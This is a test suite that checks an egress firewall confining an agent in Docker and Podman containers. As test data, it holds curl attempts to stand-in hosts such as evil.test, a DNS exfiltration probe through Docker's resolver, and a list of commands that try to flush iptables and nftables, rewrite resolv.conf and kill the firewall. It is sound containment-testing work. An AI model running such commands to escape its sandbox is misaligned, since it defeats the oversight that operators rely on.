"""The firewall in real containers: Docker 20.10 and 26, Podman 5 rootful and rootless.

Whether something got out is what the far end wrote down, not what the client made of it.
"""

from __future__ import annotations

import itertools
import json
import shlex
import time
import uuid
from collections.abc import Callable, Iterator

import pytest

from mcpconf.contract.egress import Egress, EgressRow, GatewayAddress, dump_egress
from tests.engines.engine import KINDS, NETWORK, Container, Engine

pytestmark = pytest.mark.engine

PLACES = [(kind.name, network) for kind in KINDS for network in kind.networks]
ROOTFUL = [place for place in PLACES if place[0] != "podman-rootless"]
EMBEDDED = [place for place in PLACES if place[0].startswith("docker") and place[1] == NETWORK]
WITH_HOST = [place for place in PLACES if place[1] != "slirp4netns"]
WITH_IPV6 = [place for place in ROOTFUL if place[1] == NETWORK]
PODMAN = [place for place in PLACES if place[0].startswith("podman")]
WITH_NAMES = [place for place in PLACES if place[1] == NETWORK]

FIREWALL = "/opt/test/mcpconf-fw"
ROWS = (
    EgressRow("allowed.test", 443, "name"),
    EgressRow("allowed2.test", 80, "name"),
    EgressRow("good.cdn.test", 443, "name"),
    EgressRow("*.wild.test", 443, "wildcard"),
)
GATEWAY = GatewayAddress("host.docker.internal", 8811)
LISTED = ["listed", "listed, http", "below a wildcard", "many names, one address"]
ATTEMPTS = {
    "listed": "https://allowed.test",
    "listed, http": "http://allowed2.test",
    "below a wildcard": "https://any.wild.test -k",
    "many names, one address": "https://good.cdn.test",
    "another port": "http://allowed.test",
    "another name": "https://evil.test",
    "the wildcard's own name": "https://wild.test",
    "a name below a listed one": "https://sub.allowed.test -k",
    "an address": "http://45.66.77.66",
    "a resolver of its own": "http://evil.test --resolve evil.test:80:45.66.77.66",
}
CURL = "curl -sSf --max-time 8 --cacert /opt/test/ca.pem"
_NUMBERS = itertools.count()


def places(of: list[tuple[str, str]]) -> pytest.MarkDecorator:
    return pytest.mark.parametrize("place", of, ids="/".join)


@pytest.fixture
def engine(place: tuple[str, str], engine_of: Callable[[str], Engine]) -> Engine:
    return engine_of(place[0])


@pytest.fixture
def box(place: tuple[str, str], engine: Engine) -> Iterator[Container]:
    """A container that may have a firewall, before it has one."""
    with engine.container(place[1]) as made:
        yield made


def policy(engine: Engine, *more: EgressRow, mode: str = "default", file: str = "") -> str:
    """Write an egress.json, in the place of ``file``; returns its path in the containers."""
    name = file.rpartition("/")[2] or f"egress-{next(_NUMBERS)}.json"
    unfinished = engine.machine.files / "unfinished"
    unfinished.write_text(dump_egress(Egress((*ROWS, *more), GATEWAY, mode)))
    unfinished.rename(engine.machine.files / name)
    return f"/opt/test/{name}"


def apply(box: Container, file: str) -> None:
    said = box.root(FIREWALL, "apply", "--policy", file)
    assert said.code == 0, said


def opened(engine: Engine, box: Container, attempts: dict[str, str]) -> list[str]:
    """Which attempts of the agent's, a URL and options each, arrive at a server beyond."""
    tokens = {what: uuid.uuid4().hex for what in attempts}
    lines = []
    for what, words in attempts.items():
        url, *options = words.split()
        command = shlex.join([*CURL.split(), f"{url}/{tokens[what]}", *options, "-o", "/dev/null"])
        lines += [f"{command} && echo {shlex.quote(what)}"]
    done = box.agent("sh", "-c", "\n".join(lines), timeout=120)
    arrived = [what for what, token in tokens.items() if engine.machine.seen(token)]
    assert arrived == done.out.splitlines(), done
    return arrived


@places(PLACES)
def test_without_a_firewall_everything_is_open(engine: Engine, box: Container) -> None:
    assert opened(engine, box, ATTEMPTS) == list(ATTEMPTS)


@places(PLACES)
def test_what_is_listed_opens_and_nothing_else(engine: Engine, box: Container) -> None:
    apply(box, policy(engine))
    assert opened(engine, box, ATTEMPTS) == LISTED
    assert "in force" in box.must(FIREWALL, "status")
    box.must(FIREWALL, "verify")


@places(PLACES)
def test_strict_mode_tells_names_on_one_address_apart(engine: Engine, box: Container) -> None:
    shared = {"another name there": "https://evil.cdn.test --resolve evil.cdn.test:443:45.66.77.20"}
    file = policy(engine)
    apply(box, file)
    assert opened(engine, box, {**ATTEMPTS, **shared}) == [*LISTED, *shared]
    apply(box, policy(engine, mode="strict", file=file))
    assert opened(engine, box, {**ATTEMPTS, **shared}) == LISTED


@places(WITH_IPV6)
def test_ipv6_is_filtered_too(engine: Engine, box: Container) -> None:
    attempts = {
        "listed": "https://allowed.test -6",
        "an address": "http://[2a0b:4142:18::66]",
        "another port": "http://[2a0b:4142:18::10]:8080",
    }
    assert opened(engine, box, attempts) == list(attempts)
    apply(box, policy(engine))
    assert opened(engine, box, attempts) == ["listed"]


@places(WITH_HOST)
def test_of_the_host_only_the_gateway_is_open(engine: Engine, box: Container) -> None:
    attempts = {
        "gateway": "http://host.docker.internal:8811",
        "another port": "http://host.docker.internal:9003",
    }
    assert opened(engine, box, attempts) == list(attempts)
    apply(box, policy(engine))
    assert opened(engine, box, attempts) == ["gateway"]


@places(WITH_NAMES)
def test_a_container_beside_it_is_open_when_listed(
    place: tuple[str, str], engine: Engine, box: Container
) -> None:
    """Its name is one that only the engine's own resolver knows."""
    with engine.container(place[1]) as beside:
        serve = "cd /opt/test; for port in 80 81; do python3 -m http.server $port & done; wait"
        beside.background("sh", "-c", serve)
        ask = f"{CURL} --retry 20 --retry-connrefused --retry-delay 1 http://{beside.name}"
        assert box.agent("sh", "-c", f"{ask}:80/ca.pem && {ask}:81/ca.pem").code == 0
        apply(box, policy(engine, EgressRow(beside.name, 80, "peer")))
        answers = box.agent(
            "sh", "-c", f"for p in 80 81; do {CURL} http://{beside.name}:$p/ca.pem; done"
        )
        assert answers.out.count("BEGIN CERTIFICATE") == 1
        assert opened(engine, box, ATTEMPTS) == LISTED


@places(PLACES)
def test_a_restarted_container_gets_its_firewall_again(engine: Engine, box: Container) -> None:
    """Docker leaves a resolv.conf alone that was changed: ours is there when we come."""
    file = policy(engine)
    apply(box, file)
    box.restart()
    apply(box, file)
    assert opened(engine, box, ATTEMPTS) == LISTED
    engine.must("kill", box.name)
    engine.must("start", box.name)
    apply(box, file)
    assert opened(engine, box, ATTEMPTS) == LISTED


@places(PLACES)
def test_stop_open_leaves_nothing(engine: Engine, box: Container) -> None:
    before = remains(box)
    apply(box, policy(engine))
    assert all(was != now for was, now in zip(before, remains(box), strict=True))
    box.must(FIREWALL, "stop", "--open")
    end = time.monotonic() + 10  # a pause of the keeper lasts a second
    while remains(box) != before and time.monotonic() < end:
        time.sleep(0.3)
    assert remains(box) == before
    assert opened(engine, box, ATTEMPTS) == list(ATTEMPTS)


def remains(box: Container) -> tuple[str, list[str], list[str]]:
    """The container's files, rules and processes."""
    files = box.must("sh", "-c", "cat /etc/resolv.conf; find /run /etc -name '*mcpconf*'")
    rules = box.must("sh", "-c", SAVED).splitlines()
    processes = box.must("ps", "-A", "-o", "stat=,args=").splitlines()
    alive = [line.split(maxsplit=1)[1] for line in processes if not line.startswith("Z")]
    return files, rules, sorted(args for args in alive if not args.startswith("ps "))


SAVED = """
for family in ip ip6; do
  for backend in nft legacy; do ${family}tables-$backend-save 2> /dev/null; done
done | grep -v -e '^#' -e '^:[A-Z]* ACCEPT' -e '^[*]' -e COMMIT
ipset list -n
"""


@places(EMBEDDED)
def test_the_rules_of_dockers_resolver_survive(engine: Engine, box: Container) -> None:
    def dockers() -> list[str]:
        lines = box.must("iptables-save", "-t", "nat").splitlines()
        return [line for line in lines if "127.0.0.11" in line]

    before = dockers()
    assert len(before) == 6
    apply(box, policy(engine))
    apply(box, policy(engine))
    assert dockers() == before


@places(EMBEDDED)
def test_dockers_resolver_is_not_a_way_out(engine: Engine, box: Container) -> None:
    """It listens on a port of its own, and asks the internet whatever it is asked."""
    apply(box, policy(engine))
    nat = box.must("iptables-save", "-t", "nat").split()
    ports = [word.partition(":")[2] for word in nat if word.startswith("127.0.0.11:")]
    name = f"{uuid.uuid4().hex}.exfil.test"
    for port in ("53", *ports):
        box.agent("python3", "-c", ASK, "127.0.0.11", port, name)
    box.agent("getent", "hosts", name)
    assert not engine.machine.asked(name)
    box.must("python3", "-c", ASK, "127.0.0.11", "53", name)
    assert engine.machine.asked(name)


ASK = """
import socket, sys
to, port, name = sys.argv[1:]
labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
asker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
asker.settimeout(3)
asker.sendto(b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + labels + b"\\0\\0\\1\\0\\1", (to, int(port)))
asker.recv(512)
"""


@places(PLACES)
def test_the_agent_cannot_undo_it(engine: Engine, box: Container) -> None:
    apply(box, policy(engine))
    for words in (
        "iptables -F",
        "iptables -P OUTPUT ACCEPT",
        "iptables-legacy -F",
        "nft flush ruleset",
        "ipset flush",
        f"{FIREWALL} stop --open",
        f"{FIREWALL} apply --policy /opt/test/ca.pem",
        "sh -c 'echo nameserver 45.66.77.53 > /etc/resolv.conf'",
        "sh -c 'rm -rf /run/mcpconf-fw/*'",
        "sh -c 'kill -9 $(cat /run/mcpconf-fw/*.pid)'",
        "ip addr flush dev eth0",
    ):
        assert box.agent(*shlex.split(words)).code != 0, words
    box.agent("unshare", "-rn", "iptables", "-F")  # Podman lets it have a network of its own
    assert opened(engine, box, ATTEMPTS) == LISTED


@places(EMBEDDED)
def test_a_second_network_is_closed_as_well(engine: Engine, box: Container) -> None:
    """Docker writes its files anew when a container joins a network."""
    apply(box, policy(engine))
    other = f"other-{next(_NUMBERS)}"
    engine.must("network", "create", other)
    engine.must("network", "connect", other, box.name)
    assert opened(engine, box, ATTEMPTS) == LISTED
    engine.must("network", "disconnect", other, box.name)
    engine.must("network", "rm", other)
    assert opened(engine, box, ATTEMPTS) == LISTED


@places(PLACES)
def test_what_was_refused_is_known_by_name(engine: Engine, box: Container) -> None:
    apply(box, policy(engine))
    assert box.get("https://mcp.blocked.test:8443/").code != 0
    assert box.get("http://45.66.77.66:9999/").code != 0
    said = json.loads(box.must(FIREWALL, "blocked", "--format", "json"))
    text = json.dumps(said)
    assert "mcp.blocked.test" in text
    assert "8443" in text
    assert "45.66.77.66" in text
    assert "9999" in text


@places(PLACES)
def test_without_the_capability_it_says_so(place: tuple[str, str], engine: Engine) -> None:
    with engine.container(place[1], capabilities="") as box:
        said = box.root(FIREWALL, "apply", "--policy", policy(engine))
        assert said.code == 4
        assert "NET_ADMIN" in said.err


@places(PLACES)
def test_with_nftables_alone(place: tuple[str, str], engine: Engine) -> None:
    """A container without iptables; nothing of this needs ``NET_RAW``."""
    with engine.container(place[1], capabilities="NET_ADMIN") as box:
        box.must("sh", "-c", "rm /usr/sbin/iptables* /usr/sbin/ip6tables* /usr/sbin/ipset")
        apply(box, policy(engine))
        assert opened(engine, box, ATTEMPTS) == LISTED
        box.must(FIREWALL, "verify")


@places(PODMAN)
def test_without_net_raw_it_is_closed_and_says_so(place: tuple[str, str], engine: Engine) -> None:
    """iptables asks for a set through a raw socket."""
    with engine.container(place[1], capabilities="NET_ADMIN") as box:
        said = box.root(FIREWALL, "apply", "--policy", policy(engine))
        if said.code == 0:
            assert opened(engine, box, ATTEMPTS) == LISTED
        else:
            without_names = "an address", "a resolver of its own"
            assert opened(engine, box, {what: ATTEMPTS[what] for what in without_names}) == []
            assert said.code == 4
            assert "NET_RAW" in said.err
